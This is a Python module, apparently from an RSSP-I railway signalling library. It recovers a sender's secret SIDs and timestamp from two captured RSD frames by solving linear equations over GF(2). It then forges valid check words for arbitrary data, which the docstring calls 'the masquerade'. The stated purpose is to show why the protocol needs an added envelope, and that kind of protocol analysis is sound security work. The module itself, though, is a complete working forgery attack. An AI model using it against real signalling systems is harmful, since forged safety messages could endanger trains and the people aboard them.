"""Recovering a sender's SIDs from two of its RSD frames: why RSSP-I does not stop masquerade.

The check word is linear. With x_i(n) = SVC_i(n) ^ CRC32_i(data_n) ^ SYS_CHK_WD_i, every frame gives
x_i(n) = SID_i ^ T_i(n), and the timestamp runs T_i(b) = M_i^(b-a) T_i(a) for the per-cycle LFSR
matrix M_i. Two frames with TCs a < b therefore give, per channel, 32 linear equations over GF(2):

    (I ^ M^k) SID = x(b) ^ M^k x(a),        k = b - a

For consecutive frames (k = 1) I ^ M is invertible for both channel polynomials, so SID is unique;
then T(a) = x(a) ^ SID, and a forger holding SID and T can sign any data with any later TC. Nothing
secret is needed, only two captured frames: hence the open-bearer envelope (rssp1.envelope).
"""

from __future__ import annotations

from dataclasses import dataclass

from rssp1.checkword import SYS_CHK_WD
from rssp1.crc import crc32_pair
from rssp1.frames import Rsd
from rssp1.timestamp import TIMESTAMP_LFSRS, LinearMap32

MAX_SOLUTIONS = 256  # a singular system (rare, large k) is reported as all of its solutions up to this


def solve_gf2(columns: list[int], rhs: int) -> tuple[int, list[int]] | None:
    """Solve A s = rhs over GF(2) for 32-bit s, A given by its 32 column images A(1 << i).

    Returns (one solution, basis of the null space), or None when there is no solution.
    """
    # Row r of the augmented matrix: bits 0..31 = coefficients of s_0..s_31, bit 32 = rhs bit.
    rows = []
    for r in range(32):
        row = 0
        for i, col in enumerate(columns):
            if (col >> r) & 1:
                row |= 1 << i
        rows.append(row | (((rhs >> r) & 1) << 32))
    pivots: list[int] = []
    rank = 0
    for col in range(32):
        pivot = next((r for r in range(rank, 32) if (rows[r] >> col) & 1), None)
        if pivot is None:
            continue
        rows[rank], rows[pivot] = rows[pivot], rows[rank]
        for r in range(32):
            if r != rank and (rows[r] >> col) & 1:
                rows[r] ^= rows[rank]
        pivots.append(col)
        rank += 1
    if any(rows[r] >> 32 for r in range(rank, 32)):
        return None
    solution = 0
    for r, col in enumerate(pivots):
        if rows[r] >> 32:
            solution |= 1 << col
    free = [c for c in range(32) if c not in pivots]
    basis = []
    for f in free:
        v = 1 << f
        for r, col in enumerate(pivots):
            if (rows[r] >> f) & 1:
                v |= 1 << col
        basis.append(v)
    return solution, basis


def _x_words(frame: Rsd) -> tuple[int, int]:
    c1, c2 = crc32_pair(frame.data)
    return frame.svc[0] ^ c1 ^ SYS_CHK_WD[0], frame.svc[1] ^ c2 ^ SYS_CHK_WD[1]


@dataclass(frozen=True)
class RecoveredIdentity:
    sid: tuple[int, int]
    tc: int  # the TC of the first frame
    timestamp: tuple[int, int]  # T(tc) of the first frame


def recover_sid(first: Rsd, second: Rsd) -> list[RecoveredIdentity]:
    """Every (SID, T) pair consistent with two RSD frames of one sender (usually exactly one)."""
    if first.source != second.source:
        raise ValueError("the two frames come from different sources")
    k = (second.tc - first.tc) % (1 << 32)
    if k == 0:
        raise ValueError("the two frames have the same TC")
    xa, xb = _x_words(first), _x_words(second)
    per_channel: list[list[int]] = []
    for ch in range(2):
        mk: LinearMap32 = TIMESTAMP_LFSRS[ch].power_map(k)
        columns = [(1 << i) ^ mk(1 << i) for i in range(32)]
        solved = solve_gf2(columns, xb[ch] ^ mk(xa[ch]))
        if solved is None:
            return []
        base, null = solved
        if len(null) > MAX_SOLUTIONS.bit_length() - 1:
            raise ValueError(f"channel {ch + 1}: {2 ** len(null)} solutions; use frames closer together")
        candidates = [base]
        for v in null:
            candidates += [c ^ v for c in candidates]
        per_channel.append(candidates)
    return [
        RecoveredIdentity((s1, s2), first.tc, (xa[0] ^ s1, xa[1] ^ s2))
        for s1 in per_channel[0]
        for s2 in per_channel[1]
    ]


def forge_rsd_svc(identity: RecoveredIdentity, tc: int, data: bytes) -> tuple[int, int]:
    """Check words for arbitrary data at a later TC, from a recovered identity: the masquerade."""
    steps = (tc - identity.tc) % (1 << 32)
    t = tuple(TIMESTAMP_LFSRS[ch].advance(identity.timestamp[ch], steps) for ch in range(2))
    c1, c2 = crc32_pair(data)
    return (
        c1 ^ identity.sid[0] ^ t[0] ^ SYS_CHK_WD[0],
        c2 ^ identity.sid[1] ^ t[1] ^ SYS_CHK_WD[1],
    )
